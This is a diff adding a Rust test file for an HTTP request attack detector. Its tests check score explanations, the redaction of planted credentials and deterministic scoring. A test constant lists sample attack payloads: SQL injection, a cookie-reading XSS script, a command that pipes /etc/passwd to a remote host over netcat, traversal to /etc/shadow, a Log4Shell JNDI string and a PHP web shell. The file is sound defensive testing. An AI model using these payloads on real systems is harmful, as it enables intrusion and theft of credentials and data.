@@ -1,0 +1,123 @@
+use detect::evidence::Explanation;
+use detect::model::Model;
+use detect::signatures::Signatures;
+use detect::{Detector, Header, Reader, Request};
+use proptest::prelude::*;
+
+use super::signature;
+
+fn detector() -> Detector {
+    let signatures = Signatures::built_in().expect("the packs are read");
+    let model = Model::priors(&signatures);
+    Detector::new(signatures, model)
+}
+
+fn explain(
+    detector: &Detector,
+    uri: &str,
+    headers: &[(&str, &str)],
+    body: Option<&str>,
+) -> Explanation {
+    let headers: Vec<Header<'_>> = headers
+        .iter()
+        .map(|(name, value)| Header { name: name.as_bytes(), value: value.as_bytes() })
+        .collect();
+    let request = Request {
+        method: b"POST",
+        uri: uri.as_bytes(),
+        headers: &headers,
+        body: body.map(str::as_bytes),
+        ..Request::default()
+    };
+    let mut reader = Reader::default();
+    let explanation = detector.explain(&mut reader, &request);
+    assert_eq!(explanation.llr, detector.score(&mut reader, &request).llr, "explained as scored");
+    explanation
+}
+
+const ATTACKS: &[&str] = &[
+    "1' or '1'='1' -- -",
+    "<script>alert(document.cookie)</script>",
+    ";cat /etc/passwd|nc 192.0.2.1 99",
+    "../../../../etc/shadow",
+    "${jndi:ldap://192.0.2.1/a}",
+    "<?php system($_GET['c']); ?>",
+];
+
+fn encoded(text: &str) -> String {
+    text.bytes()
+        .map(|byte| {
+            if byte.is_ascii_alphanumeric() {
+                char::from(byte).to_string()
+            } else {
+                format!("%{byte:02X}")
+            }
+        })
+        .collect()
+}
+
+#[test]
+fn contributions_add_up_to_the_llr() {
+    let detector = detector();
+    for attack in ATTACKS.iter().chain(&["plain words", ""]) {
+        let explanation =
+            explain(&detector, &format!("/search?q={}&page=2", encoded(attack)), &[], None);
+        assert!((explanation.sum() - explanation.llr).abs() < 1e-4, "{attack}: {explanation:?}");
+    }
+}
+
+#[test]
+fn planted_credentials_are_never_shown() {
+    let pack = signature("a.any", "needs = ['union']\nplaces = ['value', 'name']");
+    let signatures = Signatures::parse([("test", pack.as_str())]).expect("a valid pack");
+    let model = Model::priors(&signatures);
+    let detector = Detector::new(signatures, model);
+    let secret =
+        proptest::string::string_regex("[a-z]{5,9}[0-9][a-z]{3}[0-9][a-z]{2}[0-9]{2}[a-z]{6}")
+            .expect("a pattern");
+    let names = [
+        "password",
+        "db_password",
+        "api_key",
+        "access-token",
+        "client_secret",
+        "sessionid",
+        "jwt",
+        "pwd",
+    ];
+    let attack = prop::sample::select(vec![" union select 1", "' union all", "<x> union"]);
+    proptest!(|(secret in secret, name in prop::sample::select(names.to_vec()), attack in attack, form in 0..9)| {
+        let spaced = attack.replace(' ', "+");
+        let (uri, header, body) = match form {
+            0 => (format!("/?{name}={secret}{spaced}"), None, None),
+            1 => (format!("/?q={spaced}+{name}={secret}"), None, None),
+            2 => ("/".to_owned(), Some(("authorization", format!("Bearer {secret}{attack}"))), None),
+            3 => ("/".to_owned(), Some(("cookie", format!("{name}={secret}; a={attack}"))), None),
+            4 => ("/".to_owned(), None, Some(format!("{{\"{name}\": \"{secret}\", \"q\": \"{attack}\"}}"))),
+            5 => ("/".to_owned(), None, Some(format!("{attack} <{name}>{secret}</{name}>"))),
+            6 => (format!("/?u=https://me:{secret}@host/{spaced}"), None, None),
+            7 => ("/".to_owned(), None, Some(format!("{attack} authorization: basic {secret}"))),
+            _ => (format!("/?q={}", encoded(&format!("{attack} {name}: '{secret}'"))), None, None),
+        };
+        let headers: Vec<_> = header.iter().map(|(name, value)| (*name, value.as_str())).collect();
+        let explanation = explain(&detector, &uri, &headers, body.as_deref());
+        let shown = serde_json::to_string(&explanation).expect("plain data");
+        prop_assert!(!shown.contains(&secret), "{shown}");
+    });
+}
+
+#[test]
+fn the_same_request_always_scores_the_same() {
+    let detector = detector();
+    let mut reader = Reader::default();
+    let uris: Vec<String> =
+        ATTACKS.iter().map(|attack| format!("/a?b={}", encoded(attack))).collect();
+    let mut score = |uri: &String| {
+        let request = Request { method: b"GET", uri: uri.as_bytes(), ..Request::default() };
+        detector.score(&mut reader, &request)
+    };
+    let once: Vec<_> = uris.iter().map(&mut score).collect();
+    let mut again: Vec<_> = uris.iter().rev().map(&mut score).collect();
+    again.reverse();
+    assert_eq!(once, again);
+}
